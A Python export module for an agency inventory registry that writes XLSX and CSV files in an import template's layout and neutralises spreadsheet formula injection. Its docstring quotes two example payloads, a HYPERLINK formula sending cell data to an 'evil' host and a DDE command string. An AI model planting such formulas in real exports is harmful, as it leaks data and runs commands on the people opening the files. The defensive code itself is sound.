"""Writing the registry out in the import template's layouts (an XLSX workbook, or a folder of CSV files), so an
agency can download its inventory, edit it in a spreadsheet and import it again.

A spreadsheet runs what looks like a formula: a name such as `=HYPERLINK("http://evil/?"&A1)` or
`+cmd|' /C calc'!A0` would run when the export is opened (CSV injection). Following OWASP's guidance, every text
cell that starts with = + - @, a tab or a carriage return gets a single quote in front (`importers.tabular
.neutralise_formula`), which the importers strip again (`restore_formula`), so export → import gives the same
names; XLSX cells are written as typed strings, never as formulas. Columns and sheet names are the template's
(`importers.tabular.sheet_spec`), so the files import as they are.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

from graph_model import NODE_TYPES, RELATIONSHIP_TYPES, PillarTaxonomy, parse_record, slugify, to_raw
from graph_model.labels import LINK_COLUMNS
from importers.tabular import RELATIONSHIPS, Column, neutralise_formula, sheet_spec
from importers.template import README_TITLE, readme_rows
from registry.graph import RegistryGraph, StoredRelationship

SHEETS = (*NODE_TYPES, RELATIONSHIPS)
PROVENANCE = frozenset({"type", "from", "to", "source", "import_run", "created_at", "updated_at"})
# Link columns by relationship type: (column, whether the entity holding the column is the relationship's target).
_LINKS = {rel_type: (column, is_target) for column, (rel_type, _, is_target, _) in LINK_COLUMNS.items()}


def cell_text(column: Column, value: Any) -> Any:
    """A field's value as the template's importer reads it back: lists `;`-separated, yes/no as có/không,
    numbers as numbers, text with any formula prefix neutralised."""
    if value is None:
        return None
    if isinstance(value, bool):
        return "có" if value else "không"
    if isinstance(value, int | float):
        return value
    if isinstance(value, list):
        value = "; ".join(str(item) for item in value)
    return neutralise_formula(str(value))


class _Rows:
    """The rows of every sheet, produced from two passes over the relationships and one over the nodes."""

    def __init__(self, graph: RegistryGraph, pillars: PillarTaxonomy) -> None:
        self.graph = graph
        self.pillars = pillars
        self.links: dict[str, dict[str, str]] = {}  # entity id -> link column -> other end's id
        self.in_links: set[tuple[str, str, str]] = set()  # relationships written as a link column
        for rel in graph.iter_relationships():
            raw = self._relationship(rel)
            link = _LINKS.get(rel.type)
            if link is None or set(raw) - PROVENANCE:
                continue  # not a link column's, or it has properties of its own: the relationships sheet keeps it
            column, is_target = link
            holder, other = (rel.target_id, rel.source_id) if is_target else (rel.source_id, rel.target_id)
            if column in self.links.setdefault(holder, {}):
                continue  # a second one (stored before cardinality was checked): the relationships sheet has it
            self.links[holder][column] = other
            self.in_links.add((rel.source_id, rel.type, rel.target_id))

    def _relationship(self, rel: StoredRelationship) -> dict[str, Any]:
        return to_raw(parse_record({"type": rel.type, "from": rel.source_id, "to": rel.target_id,
                                    **_known(RELATIONSHIP_TYPES[rel.type], rel.props)}, self.pillars))

    def nodes(self) -> Iterator[tuple[str, list[Any]]]:
        """(node type, row) for every entity, in id order."""
        for node in self.graph.iter_nodes():
            if node.type not in NODE_TYPES:
                continue
            raw = to_raw(parse_record({"type": node.type, **_known(NODE_TYPES[node.type], node.props)}, self.pillars))
            raw.update(self.links.get(raw["id"], {}))
            yield node.type, [cell_text(column, raw.get(column.field)) for column in sheet_spec(node.type).columns]

    def relationships(self) -> Iterator[list[Any]]:
        columns = sheet_spec(RELATIONSHIPS).columns
        for rel in self.graph.iter_relationships():
            if (rel.source_id, rel.type, rel.target_id) not in self.in_links:
                raw = self._relationship(rel)
                yield [cell_text(column, raw.get(column.field)) for column in columns]


def _known(model: type, props: dict[str, Any]) -> dict[str, Any]:
    """The stored properties the metamodel describes: bookkeeping the store adds (e.g. a revision counter) is not
    a template column and not the metamodel's to validate."""
    fields = model.model_fields  # type: ignore[attr-defined]
    return {key: value for key, value in props.items() if key in fields}


def headers(record_type: str) -> list[str]:
    return [column.header for column in sheet_spec(record_type).columns]


def write_xlsx(graph: RegistryGraph, path: Path, pillars: PillarTaxonomy) -> int:
    """The registry as one workbook (README, one sheet per node type, relationships); returns the rows written."""
    workbook = Workbook(write_only=True)
    readme = workbook.create_sheet(README_TITLE)
    for row in readme_rows():
        readme.append([_string_cell(readme, text) for text in row])
    sheets = {}
    for record_type in SHEETS:
        sheet = workbook.create_sheet(sheet_spec(record_type).label_vi)
        sheet.append([_string_cell(sheet, header) for header in headers(record_type)])
        sheets[record_type] = sheet
    rows = _Rows(graph, pillars)
    count = 0
    for record_type, values in rows.nodes():
        sheets[record_type].append([_typed_cell(sheets[record_type], value) for value in values])
        count += 1
    for values in rows.relationships():
        sheets[RELATIONSHIPS].append([_typed_cell(sheets[RELATIONSHIPS], value) for value in values])
        count += 1
    workbook.save(path)
    return count


# OOXML's own escape for characters XML 1.0 cannot hold (control characters; a CR, which XML turns into a LF),
# `_xHHHH_`, which spreadsheet readers (python-calamine included) decode; a literal `_xHHHH_` has its underscore
# escaped (`_x005F_`) so it is not decoded.
_LOOKS_ESCAPED = re.compile(r"_(x[0-9A-Fa-f]{4}_)")
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0d\x0e-\x1f\ufffe\uffff]")


def xlsx_text(text: str) -> str:
    """Text as an XLSX cell holds it: every character kept, those XML cannot carry escaped as `_xHHHH_`."""
    text = _LOOKS_ESCAPED.sub(r"_x005F_\1", text)
    return _NOT_IN_XML.sub(lambda match: f"_x{ord(match.group()):04X}_", text)


def _string_cell(sheet: WriteOnlyWorksheet, text: Any) -> WriteOnlyCell:
    """A cell that holds text as text: openpyxl would otherwise store a string starting with = as a formula."""
    cell = WriteOnlyCell(sheet, value=None if text is None else xlsx_text(str(text)))
    if text is not None:
        cell.data_type = "s"
    return cell


def _typed_cell(sheet: WriteOnlyWorksheet, value: Any) -> Any:
    return value if value is None or isinstance(value, int | float) else _string_cell(sheet, value)


def write_csv(graph: RegistryGraph, folder: Path, pillars: PillarTaxonomy) -> int:
    """The registry as one CSV file per sheet (named as the template names them, UTF-8 with a BOM so Excel reads
    the diacritics); returns the rows written."""
    folder.mkdir(parents=True, exist_ok=True)
    handles = {}
    writers = {}
    try:
        for position, record_type in enumerate(SHEETS, start=1):
            path = folder / f"{position:02d}-{slugify(sheet_spec(record_type).label_vi)}.csv"
            handles[record_type] = path.open("w", encoding="utf-8-sig", newline="")
            writers[record_type] = csv.writer(handles[record_type])
            writers[record_type].writerow(headers(record_type))
        rows = _Rows(graph, pillars)
        count = 0
        for record_type, values in rows.nodes():
            writers[record_type].writerow(["" if value is None else value for value in values])
            count += 1
        for values in rows.relationships():
            writers[RELATIONSHIPS].writerow(["" if value is None else value for value in values])
            count += 1
    finally:
        for handle in handles.values():
            handle.close()
    return count
